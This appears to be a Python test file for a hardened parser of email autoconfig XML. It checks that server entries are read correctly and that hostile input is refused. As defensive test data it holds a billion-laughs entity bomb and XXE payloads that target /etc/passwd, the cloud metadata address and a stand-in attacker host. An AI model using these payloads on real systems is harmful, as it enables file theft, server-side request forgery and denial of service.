"""A stranger's XML: what it says of servers is read, and nothing that it does harms."""

from time import monotonic

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridge.accounts.autoconfig_xml import (
    DEEPEST,
    ELEMENTS,
    LARGEST,
    LONGEST_TEXT,
    SERVERS,
    AutoconfigUnreadable,
    Incoming,
    read_autoconfig,
)
from tests.accounts.internet import document

TWO = document(("imap", "imap.example.org", "993", "SSL"), ("pop3", "pop.%EMAILDOMAIN%", "995", "SSL"))


def why(octets: bytes) -> str:
    with pytest.raises(AutoconfigUnreadable) as refused:
        read_autoconfig(octets)
    return str(refused.value)


def wrapped(inner: str, before: str = "") -> bytes:
    return f"{before}<clientConfig><emailProvider>{inner}</emailProvider></clientConfig>".encode()


def test_servers_are_read_in_their_order() -> None:
    assert read_autoconfig(TWO) == (
        Incoming("imap", "imap.example.org", "993", "SSL", "%EMAILADDRESS%", ("password-cleartext",)),
        Incoming("pop3", "pop.%EMAILDOMAIN%", "995", "SSL", "%EMAILADDRESS%", ("password-cleartext",)),
    )


def test_what_is_elsewhere_in_the_document_counts_for_nothing() -> None:
    server = "<hostname>smtp.example.org</hostname>"
    noise = f"<outgoingServer type='smtp'>{server}</outgoingServer><domain>x</domain>"
    nested = "<incomingServer type='imap'><pop3><hostname>no</hostname></pop3><hostname>a.b</hostname></incomingServer>"

    assert read_autoconfig(wrapped(noise + nested)) == (Incoming("imap", "a.b"),)
    assert read_autoconfig(b"<clientConfig><incomingServer type='imap'/></clientConfig>") == ()
    assert read_autoconfig(b"<clientConfig><webMail><incomingServer type='imap'/></webMail></clientConfig>") == ()


def test_several_ways_to_authenticate_and_the_first_of_the_rest() -> None:
    inner = (
        "<authentication>OAuth2</authentication><authentication> plain </authentication><port>1</port><port>2</port>"
    )
    [one] = read_autoconfig(wrapped(f"<incomingServer type='imap'>{inner}</incomingServer>"))

    assert one.authentication == ("OAuth2", "plain")
    assert one.port == "1"


def test_a_billion_laughs_are_not_laughed() -> None:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY l0 "lol">{entities}]>'
    began = monotonic()

    assert why(wrapped("&l9;", bomb)) == "it has a DTD, which such a document does not need"
    assert monotonic() - began < 1


@pytest.mark.parametrize(
    "dtd",
    [
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/">]>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example.com/"> %p;]>',
        "<!DOCTYPE clientConfig>",
    ],
)
def test_any_dtd_ends_the_reading(dtd: str) -> None:
    assert "DTD" in why(wrapped("", dtd))


def test_an_entity_that_nobody_declared_is_no_xml() -> None:
    assert why(wrapped("&e;")) == "it is no XML (undefined entity)"


def test_a_large_document_is_not_even_looked_at() -> None:
    assert why(b" " * (LARGEST + 1)) == "it has more than 64 KiB"
    padded = TWO + b" " * (LARGEST - len(TWO))
    assert len(read_autoconfig(padded)) == 2


def test_depth_and_number_of_elements_are_bounded() -> None:
    assert "too many" in why(wrapped("<a>" * DEEPEST + "</a>" * DEEPEST))
    assert "too many" in why(wrapped("<a/>" * ELEMENTS))


def test_servers_and_texts_are_bounded() -> None:
    long = "<incomingServer type='imap'><hostname>" + "x" * 10_000 + "</hostname></incomingServer>"

    servers = read_autoconfig(wrapped(long + "<incomingServer type='imap'/>" * 20))
    assert len(servers) == SERVERS
    assert len(servers[0].hostname) == LONGEST_TEXT + 1


@pytest.mark.parametrize("octets", [b"", b"<html><body>404</body></html>", b"{}", b"<clientConfig>", b"\xff\xfe<"])
def test_what_is_something_else_is_said_to_be(octets: bytes) -> None:
    assert why(octets)


@pytest.mark.parametrize("encoding", ["no-such", "utf-7", "shift_jis", "base64"])
def test_a_strange_encoding_is_refused(encoding: str) -> None:
    assert why(f'<?xml version="1.0" encoding="{encoding}"?><clientConfig/>'.encode())


def test_latin_1_and_utf_16_are_read() -> None:
    inner = "<emailProvider><displayName>\u00fc</displayName></emailProvider>"
    text = f'<?xml version="1.0" encoding="{{}}"?><clientConfig>{inner}</clientConfig>'
    for encoding in ("iso-8859-1", "utf-16", "windows-1252"):
        assert read_autoconfig(text.format(encoding).encode(encoding)) == ()


@given(st.binary(max_size=400))
def test_random_octets_raise_nothing_but_our_error(octets: bytes) -> None:
    _tried(octets)


@given(st.lists(st.tuples(st.integers(0, len(TWO)), st.binary(max_size=6)), max_size=4))
def test_a_damaged_document_raises_nothing_but_our_error(cuts: list[tuple[int, bytes]]) -> None:
    octets = TWO
    for place, patch in cuts:
        octets = octets[:place] + patch + octets[place + len(patch) :]
    _tried(octets)


@given(
    st.recursive(
        st.sampled_from(["hostname", "port", "&amp;", "x", "<![CDATA[", "]]>", "<!--", "<?pi?>", "\u00fc"]),
        lambda inner: st.builds(
            lambda name, parts: f"<{name} type='imap'>{''.join(parts)}</{name}>",
            st.sampled_from(["clientConfig", "emailProvider", "incomingServer", "hostname", "port"]),
            st.lists(inner, max_size=4),
        ),
    )
)
def test_any_nesting_raises_nothing_but_our_error(text: str) -> None:
    _tried(text.encode())


def _tried(octets: bytes) -> None:
    try:
        servers = read_autoconfig(octets)
    except AutoconfigUnreadable:
        return
    assert len(servers) <= SERVERS
